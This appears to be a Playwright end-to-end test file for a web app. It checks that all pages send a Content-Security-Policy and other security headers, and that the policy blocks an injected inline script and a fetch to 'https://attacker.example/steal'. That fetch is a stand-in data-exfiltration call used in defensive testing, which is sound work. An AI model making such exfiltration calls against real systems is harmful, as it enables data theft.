// The Hosting emulator sends the security headers of firebase.json (in the emulators' variant of
// the Content-Security-Policy, scripts/security-headers.mjs), and the journeys' fixture fails a
// journey on anything the policy refuses (e2e/fixtures.ts).
import { expect, test } from './fixtures';

const PAGES = ['/', '/pricing', '/auth/login', '/clients', '/admin/users', '/sw.js', '/manifest.webmanifest'];

test('every response of the app carries the Content-Security-Policy and the other security headers', async ({ request }) => {
  for (const path of PAGES) {
    const response = await request.get(path);
    expect(response.status(), path).toBe(200);
    const headers = response.headers();
    const policy = headers['content-security-policy'] ?? '';
    expect(policy, path).toContain("frame-ancestors 'none'");
    expect(policy, path).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
    expect(policy, path).toContain("object-src 'none'");
    expect(headers['x-frame-options'], path).toBe('DENY');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
  }
});

test('the page refuses an injected inline script and a connection to another site, and the fixture sees both', async ({ page, cspViolations }) => {
  await page.goto('/');
  await page.waitForLoadState('load');
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.body.append(script);
    const fetched = await fetch('https://attacker.example/steal').then(
      () => 'sent',
      () => 'refused',
    );
    return { ran: (window as unknown as { __injected?: boolean }).__injected === true, fetched };
  });
  expect(outcome).toEqual({ ran: false, fetched: 'refused' });
  await expect.poll(() => cspViolations.some((v) => /script-src/.test(v))).toBe(true);
  await expect.poll(() => cspViolations.some((v) => /connect-src/.test(v) && v.includes('attacker.example'))).toBe(true);
  // Expected here: the fixture would otherwise fail this journey for them.
  cspViolations.length = 0;
});
